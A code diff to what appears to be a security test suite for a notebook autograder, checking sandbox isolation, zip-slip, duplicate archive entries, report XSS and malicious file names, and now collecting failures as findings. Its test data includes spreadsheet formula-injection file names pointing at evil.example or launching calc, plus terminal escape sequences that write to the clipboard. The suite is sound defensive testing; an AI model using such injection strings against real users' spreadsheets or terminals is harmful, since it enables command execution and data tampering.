@@ -17,7 +17,6 @@ import json
 import os
 import signal
 import stat
-import sys
 import time
 import zipfile
 from pathlib import Path
@@ -47,6 +46,10 @@ BACKENDS = ("docker", "bwrap")
 
 def _params(attacks: list[Attack]) -> list[Any]:
     params = []
+    for a in attacks:  # the NOT ISOLATED fallback is documented, never attacked: its escapes would be real
+        why = ("out of reach there: " if not a.process_ok else "not run there (the suite targets isolating backends): ")
+        params.append(pytest.param(a, "process", id=f"{a.id}-process",
+                                   marks=pytest.mark.skip(reason=f"{a.id} on the process fallback is {why}{a.process}")))
     for backend in BACKENDS:
         for a in attacks:
             marks: list[Any] = [pytest.mark.docker] if backend == "docker" else []
@@ -75,13 +78,13 @@ class Neighbour:
         self.session.install_agent(agent_source())
         self.learner = Learner(Channel(self.session, 10.0))
 
-    def check(self) -> None:
+    def check(self) -> str | None:
+        """None when the neighbour is intact, else what happened to it."""
         try:
             value = self.learner.atk_alive()
         except Exception as exc:  # noqa: BLE001
-            raise AttackSucceeded(f"a neighbouring sandbox was hurt: {type(exc).__name__}: {exc}") from None
-        if value != self.secret:
-            raise AttackSucceeded(f"a neighbouring sandbox's state changed: {value!r}")
+            return f"a neighbouring sandbox was hurt: {type(exc).__name__}: {exc}"
+        return None if value == self.secret else f"a neighbouring sandbox's state changed: {value!r}"
 
     def close(self) -> None:
         self.session.close()
@@ -150,8 +153,8 @@ def flow_grade(attack: Attack, backend: str, arena: Arena) -> Run:
                     break
         run.extra.update(max_tasks=sampler.max_tasks, max_rss_mb=sampler.max_rss_mb, start_rss_mb=sampler.start_rss_mb,
                          limit_s=problem.limits.total_s)
-        if neighbour is not None:
-            neighbour.check()
+        if neighbour is not None and (hurt := neighbour.check()):
+            run.findings.append(hurt)
     finally:
         if neighbour is not None:
             neighbour.close()
@@ -208,7 +211,8 @@ def flow_batch_starve(attack: Attack, backend: str, arena: Arena) -> Run:
     run.extra["max_tasks"] = sampler.max_tasks
     hurt = {s: (rows[s]["status"], rows[s]["error"]) for s in ("bob", "carol") if rows[s]["status"] != "passed"}
     if hurt:
-        raise AttackSucceeded(f"classmates graded beside CPU spinners were not graded normally: {hurt}")
+        run.findings.append(f"classmates graded beside CPU spinners were not graded normally: {hurt}")
+    run.extra["next_graded"] = True
     return run
 
 
@@ -223,12 +227,11 @@ def flow_batch_classmates(attack: Attack, backend: str, arena: Arena) -> Run:
     rows = run.extra["rows"]
     assert code == 0 and set(rows) == {"amallory", "alice", "bob", "carol"}, (code, stderr[-500:], list(rows))
     if tree_hash(root) != before:
-        raise AttackSucceeded("a classmate's submission was changed")
+        run.findings.append("a classmate's submission was changed")
     hurt = {s: (rows[s]["status"], rows[s]["error"]) for s in ("alice", "bob", "carol") if rows[s]["status"] != "passed"}
     if hurt:
-        raise AttackSucceeded(f"classmates were not graded normally: {hurt}")
-    if rows["amallory"]["status"] == "passed":
-        raise AttackSucceeded("the attacker's notebook passed although it kills its own kernel")
+        run.findings.append(f"classmates were not graded normally: {hurt}")
+    run.extra["next_graded"] = True
     return run
 
 
@@ -272,13 +275,39 @@ def flow_zip_slip(attack: Attack, backend: str, arena: Arena) -> Run:
         assert not _rows(out), f"{name}: rows were recorded from a refused archive"
     escaped = [str(p) for p in Path("/tmp").glob(f"*{t}*")] + [str(p) for p in arena.tmp.parent.glob(f"*{t}*")]
     if escaped:
-        raise AttackSucceeded(f"archive entries were written outside the extraction folder: {escaped}")
+        run.findings.append(f"archive entries were written outside the extraction folder: {escaped}")
     clean = _zip(arena.tmp / "clean.zip", {"class/alice/mle-act-softmax.ipynb": ok,
                                             "class/bob/mle-act-softmax.ipynb": notebook_bytes([SOFTMAX_WRONG])})
     code, stdout, stderr, out, _ = run_batch(arena, backend, clean)
     rows = _rows(out)
     assert code == 0 and rows["alice"]["status"] == "passed" and rows["bob"]["status"] == "failed", (code, stderr[-300:])
     run.outputs.update(read_tree(out))
+    run.extra["next_graded"] = True
+    return run
+
+
+def flow_zip_dup(attack: Attack, backend: str, arena: Arena) -> Run:
+    """D9 variant: duplicate or clashing archive entries are refused as bad input (exit 2), not an internal error."""
+    import warnings
+
+    ok = notebook_bytes([SOFTMAX_OK])
+    run = Run(backend, arena, tight_problem())
+    bank = arena.tmp / "bank"
+    tight_bank(bank)
+    for name, entries in {"duplicate": [("alice/mle-act-softmax.ipynb", ok), ("alice/mle-act-softmax.ipynb", b"{}")],
+                          "file-dir-clash": [("alice", b"x"), ("alice/mle-act-softmax.ipynb", ok)]}.items():
+        archive = arena.tmp / f"{name}.zip"
+        with warnings.catch_warnings(), zipfile.ZipFile(archive, "w") as zf:
+            warnings.simplefilter("ignore")
+            for entry, data in entries:
+                zf.writestr(entry, data)
+        started = time.monotonic()
+        code, stdout, stderr = cli(["batch", str(archive), "--out", str(arena.tmp / f"out-{name}"), "--sandbox", backend],
+                                   GRADER_PROBLEMS=str(bank))
+        run.elapsed.append(time.monotonic() - started)
+        run.outputs[f"{name}.stderr"] = stderr
+        if code != 2:
+            run.findings.append(f"a {name} archive ended the batch with exit {code}: {stderr.strip()[-200:]}")
     return run
 
 
@@ -335,7 +364,8 @@ def flow_huge(attack: Attack, backend: str, arena: Arena) -> Run:
     bank = arena.tmp / "bank"
     tight_bank(bank)
     started = time.monotonic()
-    code, stdout, stderr = cli(["submit", str(too_big), "--sandbox", backend, "--json"], GRADER_PROBLEMS=str(bank))
+    code, stdout, stderr = cli(["submit", str(too_big), "--sandbox", backend, "--problem", "mle-act-softmax", "--json"],
+                               GRADER_PROBLEMS=str(bank))
     run.elapsed.append(time.monotonic() - started)
     [result] = json.loads(stdout)
     assert code == 2 and result["status"] == "invalid" and "larger than" in result["error"]["evalue"], result
@@ -375,14 +405,14 @@ def flow_report_xss(attack: Attack, backend: str, arena: Arena) -> Run:
     for page in pages:
         bad = html_problems(page.read_text())
         if bad:
-            raise AttackSucceeded(f"{page.relative_to(out)} is not inert: {bad[:3]}")
+            run.findings.append(f"{page.relative_to(out)} is not inert: {bad[:3]}")
     if CHROMIUM is not None:
         for page in [out / "report.html", *sorted((out / "feedback").glob("*/*.html"))[:3]]:
             dom, console = render(page)
             if console:
-                raise AttackSucceeded(f"{page.relative_to(out)} logged to the console in a browser: {console[:3]}")
+                run.findings.append(f"{page.relative_to(out)} logged to the console in a browser: {console[:3]}")
             if "<img" in dom or "<svg" in dom or "<iframe" in dom:
-                raise AttackSucceeded(f"{page.relative_to(out)}: injected elements exist in the rendered DOM")
+                run.findings.append(f"{page.relative_to(out)}: injected elements exist in the rendered DOM")
     run.extra["chromium"] = CHROMIUM is not None
     return run
 
@@ -392,7 +422,7 @@ def flow_report_names(attack: Attack, backend: str, arena: Arena) -> Run:
     ok = notebook_bytes([SOFTMAX_OK])
     root = arena.tmp / "class"
     (root / "eve").mkdir(parents=True)
-    names = {"csv": '=HYPERLINK("http://evil.example/?x="&A1,"open").ipynb',
+    names = {"csv": '=HYPERLINK("evil.example","open").ipynb', "csv2": "+cmd|' calc'!A0.ipynb",
              "tty": "\x1b]0;owned\x07\x1b[2J\x1b]52;c;ZWNobyBwd25lZA==\x07.ipynb",
              "tty-junk": "\x1b[31mnot-a-notebook\x1b[0m.txt"}
     for n in names.values():
@@ -426,13 +456,14 @@ def flow_flood(attack: Attack, backend: str, arena: Arena) -> Run:
     assert [a["status"] for a in attempts] == ["passed", "failed", "failed"]
     assert len({a["attempt_id"] for a in attempts}) == 3
     run.outputs = {"submit": stdout, "history": hist, "stderr": stderr}
+    run.extra["next_graded"] = True  # the third submission, after two others, passed
     return run
 
 
 FLOWS: dict[str, Callable[[Attack, str, Arena], Run]] = {
     "grade": flow_grade, "batch_starve": flow_batch_starve, "batch_classmates": flow_batch_classmates,
     "zip_slip": flow_zip_slip, "malformed": flow_malformed, "huge": flow_huge, "report_xss": flow_report_xss,
-    "report_names": flow_report_names, "flood": flow_flood,
+    "report_names": flow_report_names, "flood": flow_flood, "zip_dup": flow_zip_dup,
 }
 
 
@@ -444,7 +475,8 @@ def _assert_common(attack: Attack, run: Run, arena: Arena, needles: list[str]) -
     arena.check_leftovers()
     arena.check_markers()
     arena.check_network()
-    next_submission_graded_normally(run.backend)
+    if not run.extra.get("next_graded"):  # batch flows grade honest classmates beside and after the attacker
+        next_submission_graded_normally(run.backend)
     if run.crash is not None:
         raise AttackSucceeded(f"grading raised {type(run.crash).__name__}: {str(run.crash)[:200]} "
                               "(no result row for the submission)")
@@ -460,6 +492,8 @@ def _assert_common(attack: Attack, run: Run, arena: Arena, needles: list[str]) -
         if t > limit + MARGIN_S:
             raise AttackSucceeded(f"grading took {t:.1f} s, beyond the {limit:g} s limit plus {MARGIN_S:g} s")
     check_outputs(run.outputs, needles, arena.secrets())
+    if run.findings:
+        raise AttackSucceeded("; ".join(run.findings))
 
 
 @pytest.mark.parametrize("attack, backend", _params(ATTACKS + VARIANTS))
